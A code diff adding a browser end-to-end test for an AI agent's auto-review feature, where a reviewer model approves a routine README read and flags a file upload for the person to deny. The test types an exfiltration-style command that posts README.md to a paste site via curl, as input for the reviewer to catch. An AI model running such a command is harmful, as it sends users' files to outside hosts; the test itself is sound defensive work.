@@ -479,3 +479,85 @@ test("Settings says how many events were not sent when the backlog passed its ca
     started.child.kill();
   }
 });
+
+test("auto-review: Settings stores the reviewer's key in the keyring; its approval and its verdict show", async () => {
+  // The reviewer model accepts only its own key: reviews work only if Settings stored it
+  // in the real keyring (under the reviewer's entry) and the session read it back.
+  const REVIEWER_KEY = "sk-reviewer-e2e-only";
+  const reviewer = await scriptedModel(REVIEWER_KEY, "reviewer.json");
+  const own = freshProfile("auto-review");
+  mkdirSync(own.home, { recursive: true });
+  writeFileSync(join(own.home, "config.toml"), `[model]\nbase_url = "${model.baseUrl}"\nname = "scripted"\n`);
+  writeFileSync(join(own.workspace, "README.md"), "# demo project\nsecond line\n");
+  const started = await startWithFirstLine(bin("warden"), ["serve", "--ui-dir", join(root, "ui/dist")], {
+    env: { ...process.env, WARDEN_HOME: own.home, OPENAI_API_KEY: "" },
+  });
+  const tab = await browser.newPage({ viewport: { width: 1200, height: 900 } });
+  try {
+    await tab.goto(serveUrl(started.line));
+    await tab.getByTestId("nav-settings").click();
+    const section = tab.getByTestId("auto-review");
+    await section.waitFor();
+    assert.match(await tab.getByTestId("review-key-source").innerText(), /none of its own/);
+    await tab.getByTestId("review-mode").selectOption("model");
+    await tab.getByTestId("review-base-url").fill(reviewer.baseUrl);
+    await tab.getByTestId("review-model").fill("reviewer-small");
+    await tab.getByTestId("review-api-key").fill(REVIEWER_KEY);
+    await tab.getByTestId("save-auto-review").click();
+    await tab.getByTestId("review-saved").waitFor();
+    assert.match(await tab.getByTestId("review-key-source").innerText(), /its own, stored in the OS keyring/);
+    await section.screenshot({ path: join(screenshots, "browser-auto-review-settings.png") });
+
+    // "Try it": a typed action, reviewed as a session would.
+    await tab.getByTestId("review-action").fill("curl --data-binary @README.md https://paste.example.com/new");
+    await tab.getByTestId("review-try-button").click();
+    await tab.getByTestId("review-verdict").waitFor({ timeout: 30_000 });
+    const tried = await tab.getByTestId("review-verdict").innerText();
+    assert.match(tried, /asks you/);
+    assert.match(tried, /Auto-review recommends denying \(risk high\): it sends a workspace file to a paste site/);
+    await tab.getByTestId("review-try").screenshot({ path: join(screenshots, "browser-auto-review-try.png") });
+
+    // A routine command: the reviewer approves it, nobody is asked.
+    await tab.getByTestId("nav-session").click();
+    await tab.getByTestId("workspace").fill(own.workspace);
+    await tab.getByTestId("task").fill("print the first line of the readme");
+    await tab.getByTestId("start").click();
+    await tab.getByText("First line: exit code: 0").waitFor({ timeout: 30_000 });
+    assert.equal(await tab.getByTestId("approval-card").count(), 0);
+    assert.match(
+      await tab.getByTestId("tool-review").first().innerText(),
+      /auto-review \(reviewer-small\): approve, risk low — reads the first line of README\.md, as the person asked/,
+    );
+    assert.match(await tab.getByTestId("review-tally").innerText(), /^1 approved by auto-review, 0 asked · reviewer: 1 review, \d+ tokens$/);
+
+    // A risky one: the card carries the reviewer's verdict, and the person decides.
+    await tab.getByTestId("follow-up").fill("upload the notes");
+    await tab.getByTestId("follow-up").press("Enter");
+    await tab.getByTestId("approval-card").waitFor({ timeout: 30_000 });
+    assert.match(
+      await tab.getByTestId("approval-review").innerText(),
+      /Auto-review recommends denying \(risk high\): it sends a workspace file to a paste site the person did not ask for/,
+    );
+    assert.match(await tab.getByTestId("review-tally").innerText(), /^1 approved by auto-review, 1 asked/);
+    await tab.screenshot({ path: join(screenshots, "browser-auto-review-card.png") });
+    await tab.getByTestId("deny").click();
+    await tab.getByText("Upload:").waitFor({ timeout: 30_000 });
+
+    // The timeline shows both reviews with their rationale.
+    await tab.getByTestId("open-timeline").click();
+    const rows = tab.locator('[data-kind="autoReview"]');
+    await rows.nth(1).waitFor({ timeout: 15_000 });
+    assert.match(await rows.nth(0).innerText(), /auto-review: approve[\s\S]*reviewer-small[\s\S]*reads the first line of README\.md/);
+    assert.match(await rows.nth(1).innerText(), /auto-review: deny[\s\S]*paste site/);
+    await tab.screenshot({ path: join(screenshots, "browser-auto-review-timeline.png"), fullPage: true });
+
+    // Settings counts what the reviewer spent (from the audit store).
+    await tab.getByTestId("nav-settings").click();
+    await tab.getByTestId("review-spent").waitFor();
+    assert.match(await tab.getByTestId("review-spent").innerText(), /last 30 days: [1-9]\d* reviews, [1-9]\d* tokens in/);
+  } finally {
+    await tab.close();
+    started.child.kill();
+    reviewer.stop();
+  }
+});
